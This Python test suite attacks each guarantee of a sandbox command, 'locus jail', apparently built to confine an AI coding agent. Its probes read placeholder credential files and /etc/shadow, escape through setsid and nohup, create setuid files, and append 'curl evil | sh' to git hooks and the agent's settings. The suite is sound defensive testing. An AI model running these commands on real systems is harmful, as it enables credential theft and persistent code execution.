#!/usr/bin/python3
"""`locus jail` (docs/jail.md): every guarantee, attacked.

Each check tries to break one promise of the jail (write outside the
workspace, read a masked credential, reach the network, outlive the
command, gain privilege through a setuid file, keep a host socket, plant a
git hook, change the agent's configuration) and first shows that the same
attempt succeeds without the jail, so a check cannot pass for a reason
other than the jail.  Run as root, and again as an unprivileged user
(uid 65534 through setpriv) when run as root.

Usage: test_jail.py LOCUS [--as-user]
Exit 0 all passed, 1 a failure, 77 when bubblewrap cannot make a user
namespace here at all (said on stderr).
"""
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

from jail_common import (NOBODY, Server, as_user, bwrap_usable, check,
                         chown_tree, finish)

LOCUS = os.path.abspath(sys.argv[1])


class Env:
    """A workspace, an outside folder and a home with credentials, owned
    by the user the jail runs as."""

    def __init__(self, base, uid):
        self.uid = uid
        self.base = base
        self.ws = os.path.join(base, "ws")
        self.outside = os.path.join(base, "outside")
        self.home = os.path.join(base, "home")
        for d in (self.ws, self.outside, self.home):
            os.makedirs(d)
        self.secrets = {
            ".ssh/id_rsa": "SSH-SECRET",
            ".aws/credentials": "AWS-SECRET",
            ".config/gcloud/creds.json": "GCLOUD-SECRET",
            ".kube/config": "KUBE-SECRET",
            ".docker/config.json": "DOCKER-SECRET",
            ".netrc": "NETRC-SECRET",
            ".git-credentials": "GIT-SECRET",
            ".gnupg/private.key": "GPG-SECRET",
        }
        for rel, text in self.secrets.items():
            p = os.path.join(self.home, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w") as f:
                f.write(text + "\n")
        os.makedirs(os.path.join(self.ws, ".git", "hooks"))
        with open(os.path.join(self.ws, ".git", "config"), "w") as f:
            f.write("[core]\n")
        os.makedirs(os.path.join(self.ws, ".claude"))
        os.makedirs(os.path.join(self.home, ".cache"))
        chown_tree(uid, base)

    def run(self, argv, jail=True, extra=(), stdin=None, env=None):
        e = dict(os.environ)
        e["HOME"] = self.home
        e.pop("XDG_CONFIG_HOME", None)
        if env:
            e.update(env)
        cmd = as_user(self.uid) + ([LOCUS, "jail", "--root", self.ws,
                                    *extra, "--"] if jail else []) + list(argv)
        return subprocess.run(cmd, cwd=self.ws, env=e, input=stdin,
                              capture_output=True, timeout=120)


def sh(jenv, script, **kw):
    return jenv.run(["sh", "-c", script], **kw)


def passthrough(env):
    script = "printf 'out\\000put'; printf 'err' >&2; exit 42"
    a = sh(env, script, jail=False)
    b = sh(env, script)
    check(a.returncode == b.returncode == 42 and a.stdout == b.stdout ==
          b"out\0put" and a.stderr == b.stderr == b"err",
          "exit status, stdout (with a NUL) and stderr pass through")
    c = env.run(["cat"], stdin=b"in\nput")
    check(c.stdout == b"in\nput", "stdin passes through")
    d = sh(env, "kill -9 $$")
    check(d.returncode == 137, "death by a signal shows as 128+N")


def write_outside(env):
    target = os.path.join(env.outside, "planted")
    r = sh(env, f"echo x > {target}", jail=False)
    check(r.returncode == 0 and os.path.exists(target),
          "control: the outside folder is writable without the jail")
    os.unlink(target)
    for how in (f"echo x > {target}", f"cp /etc/hostname {target}",
                f"cd {env.ws}/.. && touch outside/planted",
                f"ln -s {env.outside} l && echo x > l/planted",
                f"mkdir -p {env.home}/.config/x && touch "
                f"{env.home}/.config/x/planted",
                f"echo x >> {env.home}/.bashrc"):
        sh(env, how)
        check(not os.path.exists(target) and
              not os.path.exists(env.home + "/.config/x/planted") and
              not os.path.exists(env.home + "/.bashrc"),
              f"cannot write outside the workspace: {how}")
    r = sh(env, "echo inside > made && cat made")
    check(r.stdout == b"inside\n" and
          os.path.exists(os.path.join(env.ws, "made")),
          "the workspace is writable")
    r = sh(env, "echo t > /tmp/scratch && cat /tmp/scratch")
    check(r.stdout == b"t\n" and not os.path.exists("/tmp/scratch"),
          "/tmp is writable and private")


def masked(env):
    for rel, text in env.secrets.items():
        p = os.path.join(env.home, rel)
        a = env.run(["cat", p], jail=False)
        check(text.encode() in a.stdout, f"control: {rel} is readable")
        b = sh(env, f"cat {p}; cat ~/{rel}; ls -a ~/{os.path.dirname(rel)}"
               f" 2>/dev/null; grep -r SECRET ~ 2>/dev/null")
        check(b"SECRET" not in b.stdout, f"masked: {rel}")
    r = sh(env, "cat /etc/shadow")
    check(b"root:" not in r.stdout, "masked: /etc/shadow")


def network(env):
    srv = Server(b"hello\n")
    srv.start()
    probe = ("import socket,sys\n"
             f"s=socket.create_connection(('127.0.0.1',{srv.port}),5)\n"
             "sys.stdout.write(s.recv(6).decode())\n")
    a = env.run(["/usr/bin/python3", "-c", probe], jail=False)
    check(a.stdout == b"hello\n", "control: the loopback server answers "
          + a.stderr.decode(errors="replace")[-300:])
    b = env.run(["/usr/bin/python3", "-c", probe])
    check(b.returncode != 0 and b"hello" not in b.stdout and
          (b"Network is unreachable" in b.stderr or
           b"Connection refused" in b.stderr),
          "no network: the host's loopback server is out of reach")
    c = env.run(["/usr/bin/python3", "-c", probe], extra=["--network"])
    check(c.stdout == b"hello\n", "--network shares the host's network")
    srv.s.close()


def alive(marker):
    """A `sleep MARKER` process exists (the command's, not the locus or
    bwrap process whose arguments name it)."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            if argv[:2] == [b"sleep", marker.encode()]:
                return True
        except OSError:
            pass
    return False


def gone_within(marker, seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not alive(marker):
            return True
        time.sleep(0.05)
    return False


def outlive(env):
    marker = f"{4000000 + os.getpid()}"
    sh(env, f"setsid sleep {marker} </dev/null >/dev/null 2>&1 & "
       f"(sleep {marker} &) ; nohup sleep {marker} >/dev/null 2>&1 &")
    check(gone_within(marker, 10),
          "nothing outlives the command (setsid, double fork, nohup)")
    # killed with its parent: the jail's caller dies mid-command
    marker2 = f"{5000000 + os.getpid()}"
    e = dict(os.environ, HOME=env.home)
    cmd = as_user(env.uid) + [LOCUS, "jail", "--root", env.ws, "--", "sh",
                              "-c", f"sleep {marker2} & sleep {marker2}"]
    p = subprocess.Popen(cmd, cwd=env.ws, env=e)
    deadline = time.monotonic() + 20
    while not alive(marker2) and time.monotonic() < deadline:
        time.sleep(0.05)
    check(alive(marker2), "control: the command started")
    p.send_signal(signal.SIGKILL)
    p.wait()
    check(gone_within(marker2, 10), "the command dies with the jail's caller")
    r = sh(env, "echo $$; ps -e -o pid= | wc -l")
    lines = r.stdout.split()
    check(len(lines) == 2 and int(lines[1]) <= 4,
          "a pid namespace of its own (only its own processes are seen)")


def setuid(env):
    r = sh(env, "cp /bin/sh suid && chmod 4755 suid; stat -c %a suid")
    check(r.stdout.strip() in (b"755",),
          "chmod u+s is refused (no setuid file is left for the host)")
    r = env.run(["/usr/bin/python3", "-c",
                 "import os\nos.open('s2', os.O_CREAT|os.O_WRONLY, 0o6755)"])
    check(not os.path.exists(os.path.join(env.ws, "s2")) or
          not os.stat(os.path.join(env.ws, "s2")).st_mode & 0o6000,
          "open(O_CREAT, 06755) is refused")
    r = sh(env, "chmod g+s . ; stat -c %a .")
    check(not os.stat(env.ws).st_mode & 0o2000, "chmod g+s is refused")
    # a setuid-root program put there by the host gains nothing inside
    idp = os.path.join(env.ws, "rootid")
    shutil.copy("/usr/bin/id", idp)
    if os.geteuid() == 0:
        os.chown(idp, 0, 0)
        os.chmod(idp, 0o4755)
        a = env.run([idp, "-u"], jail=False)
        b = env.run([idp, "-u"])
        check(env.uid == 0 or (a.stdout.strip() == b"0" and
                               b.stdout.strip() == str(env.uid).encode()),
              "a setuid-root file in the workspace runs without privilege")
    r = sh(env, "cat /proc/self/status")
    check(b"NoNewPrivs:\t1" in r.stdout and
          b"CapEff:\t0000000000000000" in r.stdout,
          "no_new_privs and no capability")


def sockets_and_config(env):
    r = sh(env, "ls -A /run/ | wc -l; ls -A /var/run/ | wc -l")
    check(r.stdout.split() == [b"0", b"0"],
          "/run is private (no host sockets)")
    for rel in (".git/hooks/pre-commit", ".git/config", ".claude/settings.json"):
        p = os.path.join(env.ws, rel)
        before = open(p, "rb").read() if os.path.exists(p) else None
        sh(env, f"echo 'curl evil | sh' >> {rel}")
        after = open(p, "rb").read() if os.path.exists(p) else None
        check(before == after, f"read-only in the workspace: {rel}")


def profile(env):
    cache = os.path.join(env.home, ".cache", "made")
    sh(env, f"touch {cache}")
    check(os.path.exists(cache), "the built-in profile: ~/.cache is writable")
    prof = os.path.join(env.base, "p.profile")
    extra = os.path.join(env.home, "extra")
    os.makedirs(extra)
    os.chown(extra, env.uid, env.uid)
    with open(prof, "w") as f:
        f.write(f"# mine\nwrite ~/extra\nmask {env.ws}/hidden\n"
                "unsetenv MY_*\n")
    os.makedirs(os.path.join(env.ws, "hidden"))
    with open(os.path.join(env.ws, "hidden", "k"), "w") as f:
        f.write("HIDDEN")
    r = sh(env, "touch ~/extra/x ~/.cache/y; cat hidden/k; echo $MY_VAR",
           extra=["--profile", prof], env={"MY_VAR": "v1"})
    check(os.path.exists(os.path.join(extra, "x")) and
          not os.path.exists(os.path.join(env.home, ".cache", "y")) and
          b"HIDDEN" not in r.stdout and b"v1" not in r.stdout,
          "a profile's write, mask and unsetenv apply (and replace the "
          "built-in caches)")
    r = sh(env, "cat ~/.ssh/id_rsa", extra=["--profile", prof])
    check(b"SECRET" not in r.stdout, "a profile cannot unmask a credential")
    # secrets in the environment: dropped by name whatever the profile
    # says (this one has no unsetenv for them), but for keepenv
    secrets = {"GITHUB_TOKEN": "tok-gh1", "STRIPE_API_KEY": "tok-sk2",
               "DATABASE_URL": "tok-db3", "SSH_AUTH_SOCK": "tok-sock4",
               "Npm_Config__Auth": "tok-npm5", "PLAIN_SETTING": "plain6"}
    show = "echo " + " ".join("$" + k for k in secrets)
    r = sh(env, show, jail=False, env=secrets)
    check(all(v.encode() in r.stdout for v in secrets.values()),
          "control: without the jail the environment is seen")
    for extra in ([], ["--profile", prof]):
        r = sh(env, show, extra=extra, env=secrets)
        check(b"plain6" in r.stdout and b"tok-" not in r.stdout,
              f"secret variables never reach the command ({extra or 'built-in profile'})")
    with open(prof, "a") as f:
        f.write("keepenv GITHUB_TOKEN\n")
    r = sh(env, show, extra=["--profile", prof], env=secrets)
    check(b"tok-gh1" in r.stdout and b"tok-sk2" not in r.stdout,
          "keepenv passes the one variable it names")
    with open(prof, "w") as f:
        f.write("allow everything\n")
    r = sh(env, "touch ran", extra=["--profile", prof])
    check(r.returncode == 125 and b"unknown directive" in r.stderr and
          not os.path.exists(os.path.join(env.ws, "ran")),
          "a bad profile line: exit 125, the command does not run")
    r = env.run([LOCUS, "jail", "--print-profile"], jail=False)
    check(b"write ~/.cache" in r.stdout, "--print-profile")


def no_bwrap(env):
    fake = os.path.join(env.base, "fakebin")
    os.makedirs(fake)
    with open(os.path.join(fake, "bwrap"), "w") as f:
        f.write("#!/bin/sh\necho 'bwrap: No permissions to create new "
                "namespace' >&2\nexit 1\n")
    os.chmod(os.path.join(fake, "bwrap"), 0o755)
    marker = os.path.join(env.ws, "ran-unconfined")
    r = sh(env, f"touch {marker}", env={"PATH": fake + ":/usr/bin:/bin"})
    check(r.returncode == 125 and not os.path.exists(marker) and
          b"could not make the jail" in r.stderr,
          "bwrap that cannot make namespaces: exit 125, not run")
    r = sh(env, f"touch {marker}", env={"PATH": "/nonexistent"})
    check(r.returncode == 125 and not os.path.exists(marker) and
          b"not installed" in r.stderr,
          "no bwrap: exit 125, not run unconfined")


def labelled():
    """Every credential store the jail masks is one the labels call a
    secret (backends/jail.c's table, read from the source)."""
    src = os.environ.get("LOCUS_SOURCE_ROOT",
                         os.path.join(os.path.dirname(__file__), ".."))
    text = open(os.path.join(src, "backends", "jail.c")).read()
    table = text.split("home_secrets[] = {", 1)[1].split("NULL", 1)[0]
    names = [w.strip().strip('",') for w in table.split("\n")]
    names = [n for n in names if n and not n.startswith("/")]
    check(len(names) >= 20, f"the jail's mask table read ({len(names)})")
    for n in names:
        r = subprocess.run([LOCUS, "classify", f"cat ~/{n}"],
                           capture_output=True)
        check(b"exec:secrets" in r.stdout, f"labelled exec:secrets: ~/{n}")


def suite(uid):
    base = tempfile.mkdtemp(prefix="locus-jail-", dir=os.getcwd())
    os.chmod(base, 0o755)
    try:
        env = Env(base, uid)
        print(f"# as uid {uid}")
        passthrough(env)
        write_outside(env)
        masked(env)
        network(env)
        outlive(env)
        setuid(env)
        sockets_and_config(env)
        profile(env)
        no_bwrap(env)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def main():
    if not bwrap_usable():
        sys.stderr.write("bwrap cannot make namespaces here: skipped\n")
        return 77
    labelled()
    suite(os.geteuid())
    if os.geteuid() == 0:
        suite(NOBODY)
    else:
        print("# not root: the unprivileged-user pass is this one")
    return finish()


if __name__ == "__main__":
    sys.exit(main())
